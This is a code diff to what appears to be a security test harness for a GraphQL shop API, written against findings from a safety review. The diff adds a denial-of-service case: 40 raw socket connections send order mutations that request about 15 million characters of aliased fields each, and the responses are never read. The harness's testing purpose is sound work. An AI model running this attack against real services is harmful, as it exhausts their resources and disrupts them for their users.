@@ -1,6 +1,8 @@
+import { setTimeout as pause } from 'node:timers/promises';
 import pg from 'pg';
 import type { Arm, Attack } from './attack.ts';
-import { signed } from './attack.ts';
+import { countConnection, endOf, signed } from './attack.ts';
+import { cartOfLines } from './attacks-of-readers.ts';
 import { cart, checkOut, orderUnits, paidCart, readUnits } from './checkout.ts';
 
 const payments = (count: number) => Array.from({ length: count }, () => ({ payment_method_id: 1 }));
@@ -35,6 +37,23 @@ const long = (length: number, place: number): string =>
 const toldMuch = `mutation ($by: OrderBy!) { updateOrder(by: $by, input: {}) { order {
     user { orders(first: 400) { nodes { number specialInstructions lineItems { quantity } } } } } } }`;
 
+/** A small change of an order that tells its instructions for each of its 500 lines: 15 million characters. */
+const toldLong = `mutation ($by: OrderBy!) { updateOrder(by: $by, input: {}) { order { lineItems { order {
+    ${Array.from({ length: 6 }, (_, place) => `a${String(place)}: specialInstructions`).join(' ')} } } } } }`;
+
+/** Changes an order over a new connection, and takes nothing of what is told. */
+async function changeUnread(arm: Arm, number: string): Promise<void> {
+  const body = JSON.stringify({ query: toldLong, variables: { by: { number } } });
+  const head = `X-ServiceAPIKey: ${arm.target.key}\r\nContent-Type: application/json\r\n`;
+  const socket = arm.connect();
+  countConnection(arm, socket);
+  socket.write(
+    `POST /graphql HTTP/1.1\r\nHost: a\r\n${head}Content-Length: ${String(body.length)}\r\n\r\n${body}`,
+  );
+  await endOf(socket);
+  await pause(100);
+}
+
 /** What safety.md found an ordinary customer's key, or an order's token, to do by writing. */
 export const attacksOfWriters: readonly Attack[] = [
   {
@@ -42,6 +61,13 @@ export const attacksOfWriters: readonly Attack[] = [
     does: '500 payments in one PUT, and the 50 that are allowed to a new cart, one after the other, with the token of each',
     reaches: 200,
     strike: (arm) => arm.crowd(1, (place) => pay(arm, place)),
+  },
+  {
+    finding: '12',
+    does: '40 connections change an order, request 15 million characters of it in the response, and read none',
+    reaches: 0,
+    readies: (arm) => cartOfLines(arm, 0, 'a'.repeat(5_000)),
+    strike: (arm, number = '') => arm.crowd(40, () => changeUnread(arm, number)),
   },
   {
     finding: '14',
